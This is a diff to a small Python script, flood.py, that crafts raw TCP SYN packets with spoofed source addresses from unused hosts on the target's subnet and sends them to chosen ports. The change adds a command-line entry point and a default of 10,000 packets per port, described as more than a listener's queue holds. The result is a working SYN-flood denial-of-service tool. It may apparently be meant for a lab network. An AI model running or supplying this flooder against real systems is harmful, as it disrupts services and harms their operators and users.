@@ -1,10 +1,11 @@
 # SPDX-License-Identifier: BSD-3-Clause
-"""Requests for connections of TCP that nobody means: packets with SYN, from addresses of the hosts' network that are
-nobody's. Needs root."""
+"""flood.py ADDRESS PORT...: 10,000 requests for a connection of TCP to each port that nobody means: packets with SYN,
+from addresses of the hosts' network that are nobody's. Needs root."""
 
 import random
 import socket
 import struct
+import sys
 from ipaddress import IPv4Address
 
 NOBODY = range(101, 253)  # last bytes of the addresses; network.py has hosts up to 100
@@ -28,8 +29,8 @@ def packet(source: IPv4Address, target: IPv4Address, port: int, chance: random.R
     return ip + source.packed + target.packed + tcp
 
 
-def send(target: str, ports: list[int], count: int) -> None:
-    """So many to each port."""
+def send(target: str, ports: list[int], count: int = 10_000) -> None:
+    """So many to each port: more than the queue of a listener holds."""
     chance = random.Random(1)
     to = IPv4Address(target)
     network = int(to) & ~0xFF
@@ -38,3 +39,7 @@ def send(target: str, ports: list[int], count: int) -> None:
             source = IPv4Address(network + chance.choice(NOBODY))
             for port in ports:
                 raw.sendto(packet(source, to, port, chance), (target, 0))
+
+
+if __name__ == "__main__":
+    send(sys.argv[1], [int(port) for port in sys.argv[2:]])
